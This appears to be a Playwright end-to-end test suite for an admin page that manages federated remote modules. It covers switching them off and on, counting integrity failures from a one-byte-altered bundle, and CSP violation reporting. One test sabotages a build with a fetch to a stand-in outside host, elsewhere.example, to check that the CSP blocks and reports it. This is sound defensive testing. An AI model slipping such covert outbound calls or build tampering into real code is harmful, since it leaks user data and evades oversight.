import { alterOnTheWay } from '../browser/alterOnTheWay';
import { notInFirefox } from '../browser/notInFirefox';
import { signIn } from '../browser/signIn';
import { axe, expect, type Page, test } from '../browser/test';
import { doctoredBuild, sabotage } from '../federation/doctoredBuild';
import { oneByteOff } from '../site/store';

test.use({ isFirstVisit: true });

const heading = (page: Page, name: string) => page.getByRole('heading', { level: 1, name, exact: true });
const list = (page: Page) => page.getByRole('grid', { name: 'Remotes' });
const details = (page: Page) => page.getByRole('dialog', { name: 'readers' });

test('what one administrator switches off is off for another, who reads why and switches it on', async ({
  page,
  browser,
  site,
}) => {
  const elsewhere = await browser.newContext({ baseURL: site.url });
  const other = await elsewhere.newPage();
  await other.clock.install();
  await signIn(other);
  await expect(heading(other, 'Reader definitions')).toBeVisible();

  await signIn(page, '/admin/remotes');
  await expect(list(page).getByRole('row', { name: /readers/ })).toContainText('Released');
  await page.getByRole('button', { name: 'Switch off readers' }).click();
  const form = page.getByRole('dialog', { name: 'Switch off readers?' });
  await expect(form).toContainText('Nobody can use Readers');
  await axe(page);
  await form.getByRole('button', { name: 'Switch off' }).click();
  await expect(form.getByText("Reason can't be blank.").first()).toBeVisible();
  await form.getByRole('textbox', { name: 'Reason' }).fill('Counts are wrong since noon');
  await form.getByRole('button', { name: 'Switch off' }).click();
  await expect(form).toBeHidden();
  await expect(list(page).getByRole('row', { name: /readers/ })).toContainText('Switched off');

  const card = other.getByRole('alert').filter({ hasText: 'Readers is switched off' });
  // It looks once a minute.
  await expect(async () => {
    await other.clock.fastForward('01:01');
    await expect(card).toContainText('Counts are wrong since noon', { timeout: 5000 });
  }).toPass({ timeout: 30_000 });
  await expect(card).toContainText('Switched off by Admin');
  await axe(other);
  await card.getByRole('button', { name: 'Switch on' }).click();
  await expect(heading(other, 'Reader definitions')).toBeVisible();
  await elsewhere.close();

  await page.reload();
  await list(page).getByRole('link', { name: 'readers' }).click();
  await expect(details(page)).toContainText('switched off by Admin: Counts are wrong since noon');
  await expect(details(page)).toContainText('switched on by Admin');
  await axe(page);
});

test('what fails in a browser is counted for administrators, with its code', async ({
  page,
  site,
  trouble,
}) => {
  trouble.expect(/integrity|ERR_|ChunkLoadError/);
  const { base, entry } = await site.store.remote('readers');
  await alterOnTheWay(page, site.url + base + entry, oneByteOff);
  await signIn(page);
  await expect(heading(page, 'Readers is not available now')).toBeVisible();
  await page.getByRole('button', { name: 'More' }).click();
  await page.getByRole('menuitem', { name: 'Admin' }).click();
  await page.getByRole('link', { name: 'Remotes' }).click();
  const row = list(page).getByRole('row', { name: /readers/ });
  await expect(row).toContainText('Failed (altered)');
  await expect(row).toContainText('1, last: altered');
});

test('what a remote does against the policy is blamed on it', async ({ page, site, trouble }) => {
  notInFirefox('it does not tell the bodies of requests');
  trouble.expect(/violat|Content Security Policy|Trusted/i);
  const offending = await doctoredBuild({
    version: '1.1.0',
    edit: (file, text) =>
      file.startsWith('DefinitionsPage.')
        ? sabotage(text, "fetch('https://elsewhere.example/?who=me').catch(() => {});")
        : text,
  });
  await site.release(offending.dist);
  const reported = page.waitForRequest('**/console/reports');
  await signIn(page);
  expect((await reported).postDataJSON()).toMatchObject({
    kind: 'violation',
    remote: 'readers',
    version: '1.1.0',
    code: 'connect-src',
    detail: 'https://elsewhere.example/',
  });
  await page.goto('/admin/remotes?remote=readers');
  await expect(details(page)).toContainText('connect-src');
  await offending.discard();
});

for (const width of [1440, 900, 400])
  test(`the page of remotes is usable at ${width} px, and by keyboard`, async ({ page }) => {
    await page.setViewportSize({ width, height: 900 });
    await signIn(page, '/admin/remotes');
    await expect(list(page)).toBeVisible();
    await axe(page);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
    await list(page).getByRole('link', { name: 'readers' }).focus();
    await page.keyboard.press('Enter');
    await expect(details(page)).toBeVisible();
    await axe(page);
    await page.keyboard.press('Escape');
    await expect(details(page)).toBeHidden();
  });
